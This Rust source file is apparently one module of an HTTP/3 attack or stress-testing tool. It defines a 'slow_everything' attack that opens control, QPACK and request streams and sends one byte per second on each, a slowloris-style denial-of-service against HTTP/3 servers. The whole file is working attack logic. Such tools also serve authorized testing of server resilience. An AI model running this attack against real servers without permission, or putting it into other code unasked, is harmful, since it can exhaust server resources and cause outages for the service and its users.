//! A byte a second on everything: control, QPACK, heads, bodies, sessions.

use std::time::Duration;

use crate::attacker::{Attack, Attacker};
use crate::drip::Drip;
use crate::wire;

pub(super) const ATTACK: Attack =
    Attack::new("slow_everything", "a byte a second on every stream", run)
        .by(10)
        .cut();

fn run(a: &mut Attacker) {
    a.net.options.greet = false;
    let head = wire::header(0x01, 10_000);
    let body = [wire::post(a.kind.sink()), wire::header(0x00, 1 << 20)].concat();
    let session = wire::session(a.kind.open_session());
    let control = [
        vec![0x00],
        wire::settings(wire::BROWSER),
        wire::header(0x21, 1 << 20),
    ];
    // An entry of 1,000 letters; a byte of the decoder stream cancels stream 56.
    let encoder = [
        vec![0x02],
        wire::capacity(4096),
        wire::instruction(0x40, 5, 1_000),
    ];
    let unis = [control.concat(), encoder.concat(), vec![0x03], vec![0x40]];
    a.storm(|conn, drip: &mut Drip| {
        if drip.streams.is_empty() {
            drip.streams
                .extend(unis.iter().filter_map(|first| conn.open_uni(first)));
        }
        drip.open(conn, |streams| [&head, &body, &session][streams % 3]);
        drip.fall(conn, Duration::from_secs(1));
    });
}
